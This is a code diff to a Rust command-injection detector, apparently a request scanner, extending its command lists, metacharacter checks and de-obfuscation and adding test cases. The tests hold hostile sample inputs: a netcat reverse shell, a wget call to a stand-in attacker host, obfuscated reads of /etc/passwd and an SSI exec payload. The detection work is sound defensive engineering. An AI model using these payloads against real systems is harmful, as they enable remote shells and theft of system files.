@@ -27,7 +27,8 @@ const STRONG: &[&str] = &[
     "nmap", "gcc", "cmd", "printenv", "uptime", "hostname", "ifup", "iptables", "passwd",
     "sysctl", "dmesg", "lspci", "killall", "pkill", "mkfifo", "mknod", "openssl", "xterm",
     "pwd", "ls", "id", "net1", "schtasks", "reg", "vssadmin", "icacls", "cacls", "findstr",
-    "chcp", "arp", "route", "nbtstat", "qwinsta", "quser", "runas", "timeout", "ping",
+    "chcp", "arp", "route", "nbtstat", "qwinsta", "quser", "runas", "timeout", "ping", "netsh",
+    "net.exe", "whoami.exe", "ifconfig.exe", "powershell_ise", "sysinfo",
 ];
 
 /// Commands that are also English words: need shell-looking arguments.
@@ -85,7 +86,7 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
     }
 
     // Quick exit: no shell metacharacter and no invocation fragment.
-    let has_meta = s.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'{' | b'%'));
+    let has_meta = s.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'{' | b'%' | b'\'' | b'"' | b'<'));
     if !has_meta && !t.contains('/') && !t.contains('-') && !t.contains('.') {
         return;
     }
@@ -128,7 +129,12 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
         if let Some(cmd) = command_at(s, next) {
             let ok = match (kind, cmd.strength) {
                 (_, Strength::Glob) => true,
-                (Sep::Subst, _) => cmd.args_shellish || cmd.strength == Strength::Strong || cmd.ends_value || cmd.then_close || cmd.then_separator,
+                (Sep::Subst, _) => {
+                    cmd.args_shellish || cmd.strength == Strength::Strong || cmd.ends_value || cmd.then_close || cmd.then_separator || {
+                        let close = if b == b'`' { b'`' } else { b')' };
+                        s.get(cmd.end..).is_some_and(|r| r.iter().take(120).any(|&c| c == close))
+                    }
+                }
                 // Structured headers (`User-Agent: (X11; U; id)`) use `;` as a list
                 // separator: only real arguments count there.
                 _ if v.part == Part::Header => cmd.args_shellish,
@@ -152,12 +158,46 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
 
     // A value that is itself a command line (`wget http://x/s.sh`, `cat /etc/passwd`).
     if !prose {
-        if let Some(cmd) = command_at(s, 0) {
+        // A quote first (`' whoami`) breaks out of a quoted argument.
+        let quoted = matches!(s.first(), Some(b'\'' | b'"'));
+        let start = if quoted { 1 } else { 0 };
+        if let Some(cmd) = command_at(s, start) {
             if cmd.args_shellish && cmd.strength != Strength::Weak {
-                push_once(out, since, hit("rce.leading-command", CLASS, 3, 1, snippet(t, 0, 80)));
+                push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
             } else if cmd.args_shellish {
-                push_once(out, since, hit("rce.leading-command", CLASS, 3, 2, snippet(t, 0, 80)));
+                push_once(out, since, hit("rce.leading-command", CLASS, 3, 1, snippet(t, 0, 80)));
+            } else if quoted && cmd.strength == Strength::Strong && cmd.ends_value {
+                push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
             }
+        }
+    }
+
+    // Server-side includes.
+    if let Some(at) = find_ci(t, "<!--#") {
+        let d = t.get(at + 5..).unwrap_or_default().trim_start().to_ascii_lowercase();
+        let (score, ok) = if d.starts_with("exec") || d.starts_with("include") || d.starts_with("fsize") || d.starts_with("flastmod") {
+            (5, true)
+        } else if d.starts_with("echo") || d.starts_with("printenv") || d.starts_with("config") || d.starts_with("set") {
+            (3, true)
+        } else {
+            (0, false)
+        };
+        if ok {
+            push_once(out, since, hit("rce.ssi-directive", CLASS, score, 1, snippet(t, at, at + 80)));
+        }
+    }
+    // Windows environment variables naming system locations.
+    for var in ["%systemroot%", "%windir%", "%comspec%", "%programfiles%", "%systemdrive%", "%userprofile%", "%appdata%", "%temp%", "%homedrive%"] {
+        if let Some(at) = find_ci(t, var) {
+            push_once(out, since, hit("rce.windows-env-var", CLASS, 3, 1, snippet(t, at, at + 60)));
+            break;
+        }
+    }
+    // Here-strings fed to a shell (`$0<<<$'\\x69\\x64'`).
+    for frag in ["$0<<<", "$0 <<<", "sh<<<", "bash<<<", "sh <<<", "bash <<<"] {
+        if let Some(at) = t.find(frag) {
+            push_once(out, since, hit("rce.shell-invocation", CLASS, 5, 1, snippet(t, at, at + 60)));
+            break;
         }
     }
 
@@ -219,7 +259,20 @@ fn has_ifs(t: &str) -> bool {
 
 /// Reads one shell word starting at `i` (after blanks), de-obfuscated and lower-cased.
 /// Returns the word and the index after it.
-fn read_word(s: &[u8], mut i: usize) -> (String, usize) {
+fn read_word(s: &[u8], i: usize) -> (String, usize) {
+    // An unset variable (`$u cat`) expands to nothing: the command is the next word.
+    let mut at = i;
+    for _ in 0..3 {
+        let (w, end) = read_word_once(s, at);
+        if !w.is_empty() || end == at || !s.get(at..end).is_some_and(|r| r.contains(&b'$')) {
+            return (w, end);
+        }
+        at = end;
+    }
+    (String::new(), at)
+}
+
+fn read_word_once(s: &[u8], mut i: usize) -> (String, usize) {
     // Leading blanks, grouping and negation.
     loop {
         match s.get(i) {
@@ -266,7 +319,8 @@ fn read_word(s: &[u8], mut i: usize) -> (String, usize) {
                     _ => break,
                 }
             }
-            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'`' | b',' | b'}' | 0 => break,
+            // `+` is a blank once a URL is decoded (`;cat+/etc/passwd`).
+            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'`' | b',' | b'}' | b'+' | 0 => break,
             _ => {
                 w.push(c.to_ascii_lowercase() as char);
                 i += 1;
@@ -318,7 +372,7 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
     let mut j = end;
     loop {
         match s.get(j) {
-            Some(b' ' | b'\t') => j += 1,
+            Some(b' ' | b'\t' | b'+') => j += 1,
             Some(b'$') if ifs_len(s, j) > 0 => j += ifs_len(s, j),
             _ => break,
         }
@@ -339,6 +393,7 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
         }
         Some(c) if c.is_ascii_digit() => true,
         Some(b'\'' | b'"') => true,
+        Some(_) if raw_token(rest).windows(2).any(|w| w == b"$(" || w == b"${") || raw_token(rest).contains(&b'`') => true,
         Some(_) => {
             let (arg, _) = read_word(s, j);
             let drive = arg.as_bytes().get(1) == Some(&b':') && arg.bytes().next().is_some_and(|c| c.is_ascii_alphabetic());
@@ -353,6 +408,12 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
         return None;
     }
     Some(Cmd { strength, args_shellish, ends_value, then_separator, then_close, end })
+}
+
+/// The raw text up to the next blank.
+fn raw_token(rest: &[u8]) -> &[u8] {
+    let n = rest.iter().take(128).position(|c| c.is_ascii_whitespace()).unwrap_or(rest.len().min(128));
+    rest.get(..n).unwrap_or_default()
 }
 
 /// Windows admin tools whose first argument is a verb (`net user`, `sc query`).
@@ -423,6 +484,15 @@ mod tests {
             "; nc -e /bin/sh 10.0.0.1 4444",
             "| net user",
             "x;ls",
+            ";echo ZZKJNZ$((11+6))$(echo ZZKJNZ)ZZKJNZ",
+            ";+$u+cat+/etc$u/passwd+\\#",
+            ";cat+/e??/pa???d",
+            "<!--#exec cmd=\"/usr/bin/id;-->",
+            "netstat -an",
+            "wget https://evil.example/x.txt",
+            "' whoami",
+            "$aaaaaa/bin$bbbbbb/cat$ccccccc $dddddd/etc$eeeeeee/passwd$fffffff",
+            "'; str=$(echo IITGSD); str1=${#str}; if [ 4 -ne ${str1} ]; then sleep 0; fi &",
         ] {
             assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
         }
